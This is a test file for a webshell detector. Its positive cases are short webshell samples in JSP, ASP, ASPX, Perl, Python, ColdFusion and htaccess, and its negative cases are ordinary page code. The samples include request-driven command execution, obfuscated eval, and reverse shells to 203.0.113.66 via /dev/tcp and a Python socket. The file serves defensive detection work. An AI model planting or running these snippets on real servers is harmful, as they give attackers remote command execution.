import { describe, expect, it } from 'vitest';
import type { Language } from '../../src/webshell/language.js';
import { lexicalSignals } from '../../src/webshell/lexical/rules.js';

const weight = (language: Exclude<Language, 'php'>, source: string) =>
  Math.max(0, ...lexicalSignals(language, source).map((signal) => signal.weight));

describe('lexical rules', () => {
  it.each<[Exclude<Language, 'php'>, string, string]>([
    ['jsp', 'a command', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
    ['jsp', 'escaped words', String.raw`<% \u0052untime.getRuntime().exec(request.getParameter("c")); %>`],
    [
      'jsp',
      'reflection',
      '<% Class.forName(new String(new byte[]{106,97,118})).getMethod("x").invoke(null, request.getParameter("c")); %>',
    ],
    [
      'jsp',
      'a class loader',
      '<%! class U extends ClassLoader { Class g(byte[] b) { return defineClass(b,0,b.length); } } %><% new U().g(new BASE64Decoder().decodeBuffer(request.getReader().readLine())); %>',
    ],
    [
      'jsp',
      'script',
      '<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>',
    ],
    [
      'jsp',
      'a written file',
      '<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(request.getParameter("t").getBytes()); %>',
    ],
    [
      'jsp',
      'a filter of its own',
      '<% Field f = x.getClass().getDeclaredField("context"); f.setAccessible(true); standardContext.addFilterDef(new FilterDef()); %>',
    ],
    ['jsp', 'a command in small letters', '<% Runtime.getruntime().exec(request.getParameter("c")) %>'],
    ['jsp', 'a shell back', '<% Runtime.getRuntime().exec("bash -i >& /dev/tcp/203.0.113.66/9 0>&1"); %>'],
    ['jsp', 'a class as text', `<% String c = "yv66vgAAADIA${'4QgARgcAnAgA'.repeat(10)}"; %>`],
    [
      'jsp',
      'a log that is a page',
      '<% new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("f"), true); %>',
    ],
    ['jsp', 'a picture that is a page', 'GIF89a<% out.print(1); %>'],
    [
      'aspx',
      'an upload to a path of the request',
      '<% Request.Files[0].SaveAs(Server.MapPath(Request["f"])); %>',
    ],
    [
      'aspx',
      'a file that a field names',
      '<% var w = new StreamWriter(this.path.Text); w.Write(this.body.Text); %>',
    ],
    [
      'asp',
      'a call of characters',
      `<%eval(eval(${[...'request'].map((c) => `chr(${c.charCodeAt(0)})`).join('+')})("a"))%>`,
    ],
    ['asp', 'an escaped call', '<%execute(unescape("eval%20request%28%22a%22%29"))%>'],
    [
      'asp',
      'an interpreter of its own',
      '<% Set o = Server.CreateObject("ScriptControl"): o.addcode(Request("c")) %>',
    ],
    [
      'asp',
      'a text with letters too many',
      '<% x="e0x0e0c0ut0e(req0ue0st(1))": x=replace(x,"0",""): eval x %>',
    ],
    ['aspx', 'eval in JScript', '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'],
    [
      'aspx',
      'a process',
      '<%@ Page Language="C#"%><% var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = Request["c"]; %>',
    ],
    [
      'aspx',
      'an assembly',
      '<% Assembly.Load(new RijndaelManaged().CreateDecryptor().TransformFinalBlock(Request.BinaryRead(Request.ContentLength),0,1)); %>',
    ],
    ['asp', 'execute', '<%execute request("x")%>'],
    ['asp', 'eval of a variable', '<% dim x\nx = request("h")\neval x %>'],
    [
      'asp',
      'a decoder',
      '<% Function d(s)\nd = StrReverse(s)\nEnd Function\nExecute d(")x(tseuqer lave") %>',
    ],
    ['asp', 'an encoded page', '<%#@~^FwAAAA==nX+^!YPD;!n/D`ExKYnE*AAAAAA==^#~@%>'],
    [
      'asp',
      'a shell object',
      '<% Set s = CreateObject("WScr"&"ipt.Shell") : Response.Write s.Exec(Request("c")).StdOut.ReadAll %>',
    ],
    ['perl', 'a reverse shell', 'use Socket; connect(S, $p); open(STDIN, ">&S"); exec("/bin/sh -i");'],
    ['perl', 'a bot', 'use IO::Socket; print $sock "JOIN #x"; if (/PRIVMSG.*shell (.*)/) { my @o = `$1`; }'],
    [
      'python',
      'a reverse shell',
      'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.66",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
    ],
    ['python', 'eval', 'from flask import request\nexec(request.args["c"])'],
    ['cfm', 'a command', '<cfexecute name="cmd.exe" arguments="/c #form.cmd#" variable="x">'],
    ['htaccess', 'PHP in images', 'AddType application/x-httpd-php .jpg'],
    ['htaccess', 'a prepended image', 'auto_prepend_file = logo.png'],
  ])('%s: find %s', (language, _, source) => {
    expect(weight(language, source)).toBeGreaterThanOrEqual(45);
  });

  it.each<[Exclude<Language, 'php'>, string, string]>([
    ['jsp', 'a search', '<% String q = request.getParameter("q"); out.print(escape(q)); %>'],
    [
      'jsp',
      'an upload with a name of its own',
      '<% String name = UUID.randomUUID().toString(); part.write("/srv/media/" + name); %>',
    ],
    [
      'aspx',
      'data binding',
      '<asp:Repeater runat="server"><ItemTemplate><a href="<%# Eval("Link") %>"><%# Eval("Title") %></a></ItemTemplate></asp:Repeater><% Request.QueryString["q"] %>',
    ],
    [
      'asp',
      'a counter',
      '<% Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("count.txt")) : Response.Write f.ReadLine %>',
    ],
    ['perl', 'a form', 'use CGI; print "Content-type: text/html\\n\\n"; print escapeHTML(param("name"));'],
    [
      'python',
      'a view',
      'from flask import request\n@app.route("/")\ndef index():\n    return render(request.args.get("q"))',
    ],
    ['python', 'a deployment script', 'import subprocess\nsubprocess.run(["git", "pull"], check=True)'],
    [
      'cfm',
      'a query',
      '<cfquery name="q">select * from t where id = <cfqueryparam value="#url.id#"></cfquery>',
    ],
    ['htaccess', 'rewriting', 'RewriteEngine On\nRewriteRule . /index.php [L]\nAddType image/webp .webp'],
    ['asp', 'a query', '<% Set rs = conn.execute("select * from news where id=" & cint(request("id"))) %>'],
    [
      'asp',
      'what a remote picture becomes',
      '<% Set h = CreateObject("Microsoft.XMLHTTP"): s.SaveToFile Server.MapPath("/up/" & n), 2 %>',
    ],
    ['asp', 'a question what the host has', '<% ok = IsObjInstalled("WScript.Shell"): n = Request("n") %>'],
    [
      'asp',
      'a short encoded page',
      '<%@ LANGUAGE = VBScript.Encode %><%#@~^QAAAAA==@#@&/nk/bWxvJz[:bxHls+Eb{JJ@#@&RxIAAA==^#~@%>',
    ],
    [
      'asp',
      'a word that a filter looks for',
      '<% bad = "exec|insert|xp_cmdshell": if instr(bad, Request("q")) then Response.End %>',
    ],
    [
      'aspx',
      'a picture in a page',
      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><% Response.Write(1) %>',
    ],
  ])('%s: leave %s alone', (language, _, source) => {
    expect(lexicalSignals(language, source)).toEqual([]);
  });

  it('take time in proportion to the text', () => {
    for (const piece of [
      '"a"+',
      '/*',
      'eval(',
      'request.',
      '<%',
      'Assembly',
      'open(STDIN ',
      'new FileOutputStream(',
      '"\\u0041',
      '#@~^AAAAAA==',
      'chr(65)&',
      'unescape("%41',
      'execute(',
      'SaveToFile ',
      'GIF89a',
      'yv66vg',
    ]) {
      const source = piece.repeat(200_000 / piece.length);
      const began = process.cpuUsage();
      for (const language of ['jsp', 'asp', 'perl', 'python', 'cfm', 'htaccess'] as const)
        lexicalSignals(language, source);
      // Quadratic would be minutes; linear is a tenth of a second.
      expect(process.cpuUsage(began).user).toBeLessThan(10_000_000);
    }
  });
});
